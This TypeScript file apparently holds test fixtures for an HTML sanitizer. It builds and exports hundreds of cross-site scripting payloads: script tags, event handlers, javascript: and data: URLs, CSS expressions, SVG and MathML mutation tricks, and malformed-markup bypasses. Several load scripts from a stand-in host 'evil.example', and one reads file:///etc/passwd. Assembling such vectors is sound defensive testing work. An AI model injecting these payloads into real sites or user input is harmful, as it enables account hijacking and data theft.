/** Elements with an event handler each: `<NAME HANDLER=alert(1)>`. */
const HANDLED = [
  ['img src=x', 'onerror'], ['img src=x:alert(1)', 'onload'], ['body', 'onload'], ['body', 'onpageshow'], ['svg', 'onload'], ['video', 'onloadstart'],
  ['audio src=x', 'onerror'], ['video poster=x', 'oncanplay'], ['details open', 'ontoggle'], ['marquee', 'onstart'], ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'], ['textarea autofocus', 'onfocus'], ['keygen autofocus', 'onfocus'], ['isindex type=image src=1', 'onerror'],
  ['div', 'onmouseover'], ['a href=#', 'onclick'], ['b', 'onpointerenter'], ['p tabindex=1', 'onfocusin'], ['table', 'onmouseenter'], ['td', 'ondblclick'],
  ['span style="animation-name:x"', 'onanimationstart'], ['em style="transition:all 1s"', 'ontransitionend'], ['object', 'onerror'], ['iframe', 'onload'],
  ['link rel=stylesheet href=x', 'onload'], ['style', 'onload'], ['meter', 'onclick'], ['form', 'onsubmit'], ['button', 'onclick'], ['x', 'oncut'],
  ['x contenteditable', 'onbeforeinput'], ['blockquote', 'onwheel'], ['q', 'oncontextmenu'], ['strong', 'onkeydown'], ['code', 'onpaste'], ['del', 'ondrag'],
  ['picture', 'onerror'], ['source src=x', 'onerror'], ['track src=x', 'onerror'], ['time', 'onscroll'], ['h1', 'onauxclick'], ['hr', 'oncopy'], ['ul', 'onclick'],
] as const; // oxfmt-ignore

const SCRIPTS = [
  '<script>alert(1)</script>', '<SCRIPT SRC=http://evil.example/x.js></SCRIPT>', '<script/src=data:,alert(1)>', '<script\n>alert(1)</script\n>',
  '<script\0>alert(1)</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<<script>alert(1)//<</script>', '<script x>alert(1)</script y>',
  '<script type="text/javascript">alert(1)', '<script>alert(1)<!--', '<script src=//evil.example/x.js', '</script><script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>', '<script/xss src="http://evil.example/x.js"></script>', '<script>a=/x/\nalert(a.source)</script>', '<script ~~~>alert(0%0)</script ~~~>',
  '<script src="http://evil.example/x.js?<b>"></script>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<script a=">" src="http://evil.example/x.js"></script>',
  '\u003cscript\u003ealert(1)\u003c/script\u003e', '%3Cscript%3Ealert(1)%3C/script%3E', '&lt;script&gt;alert(1)&lt;/script&gt;', '＜script＞alert(1)＜/script＞',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '<s\u0000cript>alert(1)</script>', '<script\u2028>alert(1)</script>',
]; // oxfmt-ignore

const ADDRESSES = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', '\x01javascript:alert(1)', 'java\tscript:alert(1)', 'java\nscript:alert(1)', 'java\0script:alert(1)',
  'javascript&colon;alert(1)', 'javascript&#58;alert(1)', 'javascript&#x3A;alert(1)', '&#106;avascript:alert(1)', '&#0000106&#0000097&#0000118&#0000097script:alert(1)',
  '&#x6A&#x61&#x76&#x61script:alert(1)', 'jav&#x09;ascript:alert(1)', 'jav&#x0A;ascript:alert(1)', 'jav&NewLine;ascript:alert(1)', 'java&Tab;script:alert(1)', '&#14; javascript:alert(1)',
  'vbscript:msgbox(1)', 'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=alert(1)>',
  'feed:javascript:alert(1)', 'view-source:javascript:alert(1)', 'livescript:x', 'mocha:x', 'file:///etc/passwd', 'blob:https://a/x', 'javascript://%0aalert(1)', 'javascript://example.org/%0aalert(1)',
  'jar:https://a.example!/x', 'ms-its:x', 'about:blank', 'http:javascript:alert(1)', 'x:y', '\u00a0javascript:alert(1)', '\ufeffjavascript:alert(1)', 'javascript\u200b:alert(1)',
]; // oxfmt-ignore

const STYLES = [
  'background:url(javascript:alert(1))', 'width:expression(alert(1))', 'width:exp/**/ression(alert(1))', '-moz-binding:url(http://evil.example/x.xml#x)', 'behavior:url(x.htc)',
  'background-image:url("http://evil.example/x")', 'position:fixed;top:0;left:0;width:100%;height:100%', 'w\\69dth:expression(alert(1))', '\\65xpression(alert(1))', 'color:red;@import "x"',
  'list-style:url(x)', 'xss:e&#x78;pression(alert(1))', 'color:red}</style><script>alert(1)</script>', 'content:"\\3c script\\3e"', 'filter:progid:DXImageTransform.Microsoft.Alpha()', 'background:u\\rl(x)',
]; // oxfmt-ignore

const FOREIGN = [
  '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:alert(1)>', '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>', '<svg/onload=alert(1)//', '<svg><foreignObject><iframe src=javascript:alert(1)>',
  '<svg><style>{font-family:"<img/src=x onerror=alert(1)>"}</style></svg>', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', '<math href="javascript:alert(1)">x</math>', '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">', '<svg><![CDATA[<script>alert(1)</script>]]></svg>', '<svg><title><img src=x onerror=alert(1)></title></svg>',
  '<svg><desc><b onclick=alert(1)>x', '<svg><image href=x onerror=alert(1)>', '<svg><discard onbegin=alert(1)>', '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
]; // oxfmt-ignore

const FRAMES = [
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<iframe src="javascript:alert(1)"></iframe>', '<iframe src=//evil.example>', '<object data="javascript:alert(1)"></object>', '<object data="data:text/html,<script>alert(1)</script>">',
  '<embed src="javascript:alert(1)">', '<embed code="http://evil.example/x.swf" allowscriptaccess=always>', '<applet code=x archive=http://evil.example/x.jar>', '<frameset><frame src="javascript:alert(1)"></frameset>', '<base href="javascript:/a/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<link rel=import href="http://evil.example">', '<link rel=stylesheet href=javascript:alert(1)>', '<form action="javascript:alert(1)"><button>x</button></form>', '<button formaction=javascript:alert(1)>x',
  '<input type=image src=x formaction=javascript:alert(1)>', '<portal src=javascript:alert(1)>', '<template><script>alert(1)</script></template>', '<bgsound src="javascript:alert(1)">', '<layer src="http://evil.example/x.html"></layer>',
  '<xml id=i><x><c><![CDATA[<img src="javas]]><![CDATA[cript:alert(1)">]]></c></x></xml>', '<html><body onload=alert(1)>', '<title><img src=x onerror=alert(1)></title>', '<textarea><img src=x onerror=alert(1)></textarea>', '<plaintext><img src=x onerror=alert(1)>',
  '<xmp><img src=x onerror=alert(1)></xmp>', '<noembed><img src=x onerror=alert(1)></noembed>', '<noframes><img src=x onerror=alert(1)></noframes>', '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
]; // oxfmt-ignore

const BROKEN = [
  '<img src=x onerror=alert(1)//', '<img """><script>alert(1)</script>">', '<img src="x` `<script>alert(1)</script>"` `>', '<img/src="x"/onerror=alert(1)>', '<img src=x\x0conerror=alert(1)>', '<img\x0bsrc=x onerror=alert(1)>', '<a href="x" title="">" onmouseover="alert(1)">x</a>',
  '<a href="http://a.example/"onclick=alert(1)>x</a>', "<a title='a' onclick='alert(1)'>x</a>", '<a title="&quot; onclick=&quot;alert(1)">x</a>', '<b title="<img src=x onerror=alert(1)>">x</b>', '<abbr title="--><script>alert(1)</script>">x</abbr>',
  '<!--><img src=x onerror=alert(1)>-->', '<!---><img src=x onerror=alert(1)>-->', '<!-- --!><img src=x onerror=alert(1)>', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->', '<![><img src=x onerror=alert(1)>', '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<!doctype html><img src=x onerror=alert(1)>', '<%<img src=x onerror=alert(1)>%>', '</ <img src=x onerror=alert(1)>', '<b/<img src=x onerror=alert(1)>', '<a<b onclick=alert(1)>x', '<p<script>alert(1)</script>', '<img src=x onerror\n=\nalert(1)>', '<img src=x OnErRoR=alert(1)>',
  '<b onclick="alert(1)" onclick="x">x', '<div id=x on=1 onx=alert(1)>', '<a href="https://a.example" xlink:href="javascript:alert(1)">x</a>', '<img srcset="javascript:alert(1) 1x, data:x 2x">', '<video poster=javascript:alert(1)//>', '<q cite=javascript:alert(1)>x</q>',
  '<del cite="data:x">x</del>', '<a ping="http://evil.example" href="#">x</a>', '<img dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>', '<table background="javascript:alert(1)">', '<td background=javascript:alert(1)>', '<font color="red;x:expression(alert(1))">x</font>',
  '<a href=`javascript:alert(1)`>x</a>', '<a href=javascript:alert(1) x>x</a>', '<a href="javascript:alert(1)" href="https://a.example">x</a>', '<a\u00a0href=javascript:alert(1)>x</a>', '<a href="//evil.example" target=_blank onclick=alert(1)>x',
]; // oxfmt-ignore

/** What rendering could make active: short codes, blocks, smileys, quotes and line breaks inside of tags. */
const RENDERED = [
  '[caption title="<script>alert(1)</script>"]x[/caption]', '[gallery onclick=alert(1)]', '<a href="[x]" onclick="[y]alert(1)">x</a>', '<!-- wp:html --><script>alert(1)</script><!-- /wp:html -->', '<!-- wp:x {"a":"--><img src=x onerror=alert(1)>"} -->',
  '<pre><script>alert(1)</script></pre>', '<p title="a\n\nb" onclick="alert(1)">x</p>', '<div\n\nonclick=alert(1)>x</div>', ':) <img src=":)" onerror=alert(1)>', '"<img src="x" onerror="alert(1)">"', '<code><img src=x onerror=alert(1)></code>', "--><img src='x' onerror='alert(1)'>",
  '<p>\n\n<b onclick=\n\nalert(1)>x</b></p>', '[embed]javascript:alert(1)[/embed]', 'http://a.example/"onmouseover="alert(1)', '[<script>]alert(1)[</script>]', '<br\n\n><script>\n\nalert(1)</script>', '<object>\n\n<param name=src value=javascript:alert(1)></object>',
]; // oxfmt-ignore

/** Texts of the kinds that public collections of cross-site scripting list. */
export const VECTORS: readonly string[] = [
  ...SCRIPTS,
  ...HANDLED.map(([element, handler]) => `<${element} ${handler}=alert(1)>x`),
  ...ADDRESSES.flatMap((address) => [`<a href="${address}">x</a>`, `<img src="${address}">`]),
  ...STYLES.map((style) => `<p style='${style}'>x</p>`),
  ...FOREIGN,
  ...FRAMES,
  ...BROKEN,
  ...RENDERED,
];

/** Addresses for the fields that take one. */
export const ADDRESS_VECTORS: readonly string[] = ADDRESSES;
